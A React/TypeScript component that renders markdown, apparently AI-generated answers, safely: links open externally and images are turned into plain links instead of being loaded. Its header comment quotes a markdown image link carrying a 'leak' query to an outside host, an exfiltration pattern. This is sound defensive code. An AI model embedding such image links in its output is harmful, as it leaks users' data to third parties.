import ReactMarkdown from "react-markdown";

// react-markdown renders no raw HTML and strips javascript: URLs by default; links open outside the app.
// Images are never loaded: an answer's `![x](https://host/?leak=…)` would otherwise make the browser call that
// host as soon as it renders (and the page CSP blocks remote images anyway). They are shown as links instead.
export function Markdown({ text }: { text: string }) {
  return (
    <div className="prose-recall space-y-2 break-words leading-relaxed">
      <ReactMarkdown
        components={{
          a: ({ href, children }) => (
            <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="underline">
              {children}
            </a>
          ),
          code: ({ children }) => (
            <code className="rounded bg-zinc-100 px-1 font-mono text-[0.9em]">{children}</code>
          ),
          pre: ({ children }) => (
            <pre className="overflow-x-auto rounded-md bg-zinc-100 p-3 text-sm">{children}</pre>
          ),
          ul: ({ children }) => <ul className="list-disc pl-6">{children}</ul>,
          ol: ({ children }) => <ol className="list-decimal pl-6">{children}</ol>,
          img: ({ src, alt }) => {
            const href = typeof src === "string" ? src : undefined;
            const label = `Image: ${alt || "untitled"}`;
            return href ? (
              <a
                href={href}
                target="_blank"
                rel="noopener noreferrer nofollow"
                className="underline"
                data-testid="markdown-image-link"
              >
                {label}
              </a>
            ) : (
              <span>{label}</span>
            );
          },
        }}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
}
